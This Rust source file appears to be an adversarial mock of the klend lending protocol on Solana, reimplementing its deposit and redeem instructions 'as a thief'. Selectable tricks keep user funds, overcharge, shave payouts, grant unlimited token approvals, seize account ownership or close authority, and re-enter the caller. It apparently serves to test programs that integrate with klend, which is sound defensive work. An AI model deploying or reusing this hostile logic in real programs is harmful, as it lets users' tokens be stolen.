//! klend's supply instructions, as a thief implements them. Account orders are klend's.

use anchor_lang::{
    prelude::*,
    solana_program::{entrypoint::ProgramResult, program_error::ProgramError},
};

use crate::tricks::{self, Authority, Trick};
use anchor_spl::token::spl_token::instruction::AuthorityType;

pub const REFRESH_RESERVE: [u8; 8] = [0x02, 0xda, 0x8a, 0xeb, 0x4f, 0xc9, 0x19, 0x66];
pub const DEPOSIT: [u8; 8] = [0xa9, 0xc9, 0x1e, 0x7e, 0x06, 0xcd, 0x66, 0x44];
pub const REDEEM: [u8; 8] = [0xea, 0x75, 0xb5, 0x7d, 0xb9, 0x8e, 0xdc, 0x1d];

/// The one argument of both instructions.
pub fn amount(args: &[u8]) -> core::result::Result<u64, ProgramError> {
    args.first_chunk::<8>().map(|b| u64::from_le_bytes(*b)).ok_or(ProgramError::InvalidInstructionData)
}

/// owner, reserve, market, market authority, liquidity mint, supply, collateral mint, source, collateral destination, …
pub fn deposit(accounts: &[AccountInfo], amount: u64) -> ProgramResult {
    let [owner, reserve, market, authority, _mint, supply, collateral_mint, source, collateral, _, token, ..] =
        accounts
    else {
        return Err(ProgramError::NotEnoughAccountKeys);
    };
    let signer = Authority { account: authority, market };
    let exchange = |taken: u64, given: u64| {
        tricks::take(token, source, supply, owner, taken)?;
        tricks::mint(token, collateral_mint, collateral, signer, given)
    };
    match Trick::of(reserve)? {
        Trick::KeepTheMoney => tricks::take(token, source, supply, owner, amount),
        Trick::TakeMore => exchange(amount.saturating_add(1), amount),
        Trick::Approve => tricks::approve(token, source, market, owner, u64::MAX),
        Trick::SetCloseAuthority => tricks::set_authority(token, source, market, owner, AuthorityType::CloseAccount),
        Trick::SetOwner => tricks::set_authority(token, source, market, owner, AuthorityType::AccountOwner),
        Trick::ApproveReceipts => {
            exchange(amount, amount)?;
            tricks::approve(token, collateral, market, owner, u64::MAX)
        }
        Trick::ReEnter => tricks::call(market),
        Trick::Shave => exchange(amount, tricks::shaved(amount)),
        Trick::ApproveSupply => {
            tricks::mint(token, collateral_mint, collateral, signer, amount)?;
            tricks::approve(token, supply, market, owner, u64::MAX)
        }
        Trick::KeepTheReceipts | Trick::Honest => exchange(amount, amount),
    }
}

/// owner, market, reserve, market authority, liquidity mint, collateral mint, supply, collateral source, destination, …
pub fn redeem(accounts: &[AccountInfo], amount: u64) -> ProgramResult {
    let [owner, market, reserve, authority, _mint, collateral_mint, supply, collateral, destination, _, token, ..] =
        accounts
    else {
        return Err(ProgramError::NotEnoughAccountKeys);
    };
    let signer = Authority { account: authority, market };
    let burn = || tricks::burn(token, collateral_mint, collateral, owner, amount);
    let exchange = |paid: u64| {
        burn()?;
        tricks::pay(token, supply, destination, signer, paid)
    };
    match Trick::of(reserve)? {
        Trick::KeepTheReceipts | Trick::KeepTheMoney => burn(),
        Trick::ReEnter => tricks::call(market),
        Trick::TakeMore => {
            // Pays, and then takes some of the payer's cash with the signature that the payer lent.
            exchange(amount)?;
            tricks::take(token, destination, supply, owner, amount.saturating_add(1))
        }
        Trick::Approve => {
            exchange(amount)?;
            tricks::approve(token, destination, market, owner, u64::MAX)
        }
        Trick::ApproveReceipts => {
            exchange(amount)?;
            tricks::approve(token, collateral, market, owner, u64::MAX)
        }
        Trick::SetCloseAuthority => {
            exchange(amount)?;
            tricks::set_authority(token, destination, market, owner, AuthorityType::CloseAccount)
        }
        Trick::SetOwner => {
            exchange(amount)?;
            tricks::set_authority(token, destination, market, owner, AuthorityType::AccountOwner)
        }
        Trick::Shave => exchange(tricks::shaved(amount)),
        Trick::ApproveSupply => {
            burn()?;
            tricks::approve(token, supply, market, owner, u64::MAX)
        }
        Trick::Honest => exchange(amount),
    }
}
